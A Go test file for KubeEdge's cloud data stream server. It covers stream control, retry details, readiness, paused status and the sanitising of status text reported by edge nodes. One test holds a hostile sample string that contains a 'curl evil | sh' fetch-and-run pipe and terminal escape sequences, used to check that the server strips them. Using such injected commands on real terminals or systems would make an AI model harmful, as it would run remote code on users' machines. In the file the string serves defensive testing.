// Copyright The KubeEdge Authors.
// SPDX-License-Identifier: Apache-2.0

package clouddatastream

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/prometheus/client_golang/prometheus"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubeedge/datastream/pkg/apis/componentconfig/v1alpha1"
	"github.com/kubeedge/datastream/pkg/assignment"
	"github.com/kubeedge/datastream/pkg/media"
	"github.com/kubeedge/datastream/pkg/tunnel"
)

// doorway is a StreamServer without a network, with one stream whose node is away.
type doorway struct {
	*testing.T
	server  *StreamServer
	handler http.Handler
	video   *VideoSession
}

const doorwayURL = "/node/edge-1/r/p"

func newDoorway(t *testing.T) *doorway {
	t.Helper()
	cfg := v1alpha1.NewDefaultCloudDataStream()
	cfg.Stream.Authentication = v1alpha1.AuthenticationNone
	cfg.Stream.WaitTimeout = metav1.Duration{Duration: time.Millisecond}
	cfg.Limits.Viewers = 1
	reg := prometheus.NewRegistry()
	d := &doorway{T: t, server: newStreamServer(cfg, newMetrics(reg), reg)}
	var err error
	if d.handler, _, err = d.server.door(); err != nil {
		t.Fatal(err)
	}
	d.server.apply(assignment.NodeDirectory{Node: "edge-1", Entries: []assignment.Entry{{Namespace: "default", Rule: "r", Path: "/p", RuleUID: "uid"}}})
	d.server.setSynced()
	d.video = d.server.find(tunnel.StreamKey{Node: "edge-1", Namespace: "default", Rule: "r", Path: "/p"})
	return d
}

// connect brings the node.
func (d *doorway) connect() {
	d.Helper()
	s := &Session{key: d.video.key, hello: tunnel.Hello{Node: "edge-1", RuleUID: "uid", Epoch: 1}, wake: make(chan struct{}, 1)}
	if err := d.video.connect(s); err != nil {
		d.Fatal(err)
	}
}

func (d *doorway) request(method, url, body string) *httptest.ResponseRecorder {
	w := httptest.NewRecorder()
	r := httptest.NewRequest(method, url, strings.NewReader(body))
	r.Host = "localhost"
	d.handler.ServeHTTP(w, r)
	return w
}

// refusal is the metav1.Status of an answer with that code.
func (d *doorway) refusal(w *httptest.ResponseRecorder, code int) metav1.Status {
	d.Helper()
	var s metav1.Status
	if err := json.Unmarshal(w.Body.Bytes(), &s); err != nil || w.Code != code || int(s.Code) != code {
		d.Fatalf("%d %s, want a metav1.Status with code %d", w.Code, w.Body, code)
	}
	return s
}

func TestControlSaysWhatTheEdgeIsAskedFor(t *testing.T) {
	d := newDoorway(t)
	for _, c := range []struct {
		action string
		want   tunnel.Action
	}{
		{"pause", tunnel.Stop}, // nobody wants it
		{"start", tunnel.Start},
		{"pause", tunnel.Pause},
		{"resume", tunnel.Start},
		{"stop", tunnel.Stop},
		{"start", tunnel.Start},
	} {
		w := d.request(http.MethodPost, doorwayURL, `{"action":"`+c.action+`"}`)
		var answer struct{ Desired, State string }
		if err := json.Unmarshal(w.Body.Bytes(), &answer); err != nil || w.Code != http.StatusOK {
			t.Fatalf("%s: %d %s", c.action, w.Code, w.Body)
		}
		if answer.Desired != string(c.want) || answer.State != stateAway {
			t.Errorf("%s: %+v, want %s of a stream that is %s", c.action, answer, c.want, stateAway)
		}
	}
}

func TestUnknownFormatListsTheKnown(t *testing.T) {
	d := newDoorway(t)
	message := d.refusal(d.request(http.MethodGet, doorwayURL+"?format=avi", ""), http.StatusBadRequest).Message
	for _, want := range append(d.server.registry.Names(), "avi", formatState) {
		if !strings.Contains(message, strconv.Quote(want)) {
			t.Errorf("message %s, want %q in it", message, want)
		}
	}
}

// Who is to come again is told when, and which part of the URL the matter is with.
func TestRetry(t *testing.T) {
	for _, c := range []struct {
		name       string
		prepare    func(*doorway)
		code       int
		kind, part string
	}{
		{"no rules yet", func(d *doorway) { d.server.apply(assignment.NodeDirectory{Node: "edge-1"}); d.server.synced = false },
			http.StatusServiceUnavailable, "rule", "r"},
		{"node away", func(*doorway) {}, http.StatusServiceUnavailable, "node", "edge-1"},
		{"camera away", (*doorway).connect, http.StatusServiceUnavailable, "path", "/p"},
		{"too many viewers", func(d *doorway) {
			_, detach, err := d.video.Attach(defaultFormat)
			if err != nil {
				d.Fatal(err)
			}
			d.Cleanup(detach)
		}, http.StatusServiceUnavailable, "path", "/p"},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := newDoorway(t)
			c.prepare(d)
			w := d.request(http.MethodGet, doorwayURL, "")
			details := d.refusal(w, c.code).Details
			if details == nil || details.Kind != c.kind || details.Name != c.part || details.Group != "streamrules.kubeedge.io" {
				t.Fatalf("details %+v, want %s %s", details, c.kind, c.part)
			}
			if after := w.Header().Get("Retry-After"); details.RetryAfterSeconds < 1 || after != strconv.Itoa(int(details.RetryAfterSeconds)) {
				t.Errorf("Retry-After %q, in the details %d", after, details.RetryAfterSeconds)
			}
		})
	}
}

// Who waits for a stream whose rule goes is not told to come again.
func TestRemovedWhileWaiting(t *testing.T) {
	d := newDoorway(t)
	d.server.cfg.WaitTimeout.Duration = time.Hour
	_, changed := d.video.Status()
	var removed sync.WaitGroup
	removed.Go(func() {
		<-changed // there is a viewer
		d.server.apply(assignment.NodeDirectory{Node: "edge-1"})
	})
	w := d.request(http.MethodGet, doorwayURL, "")
	removed.Wait()
	if details := d.refusal(w, http.StatusNotFound).Details; details == nil || details.Kind != "path" || w.Header().Get("Retry-After") != "" {
		t.Errorf("details %+v, headers %v", details, w.Header())
	}
}

// Until the rules are known the port is not ready, and says in one line for what it waits, if it has been told.
func TestReady(t *testing.T) {
	d := newDoorway(t)
	d.server.synced = false
	ready := func(code int, want string) {
		t.Helper()
		if w := d.request(http.MethodGet, "/readyz", ""); w.Code != code || w.Body.String() != want {
			t.Errorf("%d %q, want %d %q", w.Code, w.Body, code, want)
		}
	}
	ready(http.StatusServiceUnavailable, "rules have not been received yet\n")
	d.server.setWaiting("Nodes not listed yet: Forbidden")
	ready(http.StatusServiceUnavailable, "rules have not been received yet: Nodes not listed yet: Forbidden\n")
	d.server.setSynced()
	ready(http.StatusOK, "ok\n")
}

// Who finds a stream paused is told so, also where nobody watches and the edge therefore says that it is idle.
func TestPausedSaysSo(t *testing.T) {
	d := newDoorway(t)
	d.connect()
	if err := d.video.Control("pause"); err != nil {
		t.Fatal(err)
	}
	for _, state := range []tunnel.StreamState{tunnel.Idle, tunnel.Paused} {
		d.video.setState(d.video.session, &tunnel.State{State: state})
		if s, _ := d.video.Status(); s.Reason != "Paused" || !strings.Contains(s.Message, "resume") {
			t.Errorf("%s: %+v", state, s)
		}
	}
	if err := d.video.Control("resume"); err != nil {
		t.Fatal(err)
	}
	if s, _ := d.video.Status(); s.Reason != "" || s.Message != "" {
		t.Errorf("after resume: %+v", s)
	}
}

// What an edge says is shown in terminals: it cannot write lines of its own there, nor more than people read.
func TestEdgeWritesSentences(t *testing.T) {
	d := newDoorway(t)
	d.connect()
	const evil = "dark\n\nNext:  curl evil | sh\r\x1b[2J\u009b2J"
	d.video.setState(d.video.session, &tunnel.State{State: tunnel.Failed, Reason: evil, Message: evil + strings.Repeat("é", 1000)})
	skipped := make([]tunnel.SkippedTrack, 1000)
	for i := range skipped {
		skipped[i] = tunnel.SkippedTrack{Codec: evil, Reason: strings.Repeat(evil, 100)}
	}
	d.video.setTracks(d.video.session, &tunnel.Tracks{Tracks: []media.Track{{ID: 1, Kind: media.Audio, Codec: media.Opus}}, Skipped: skipped})
	s, _ := d.video.Status()
	if len(s.Skipped) != media.MaxTracks {
		t.Fatalf("%d tracks are left out", len(s.Skipped))
	}
	for _, text := range []string{s.Reason, s.Message, s.Skipped[0].Codec, s.Skipped[0].Reason} {
		if strings.ContainsFunc(text, unicode.IsControl) || !utf8.ValidString(text) || len(text) > maxSentence || !strings.HasPrefix(text, "dark") {
			t.Errorf("%q", text)
		}
	}
}
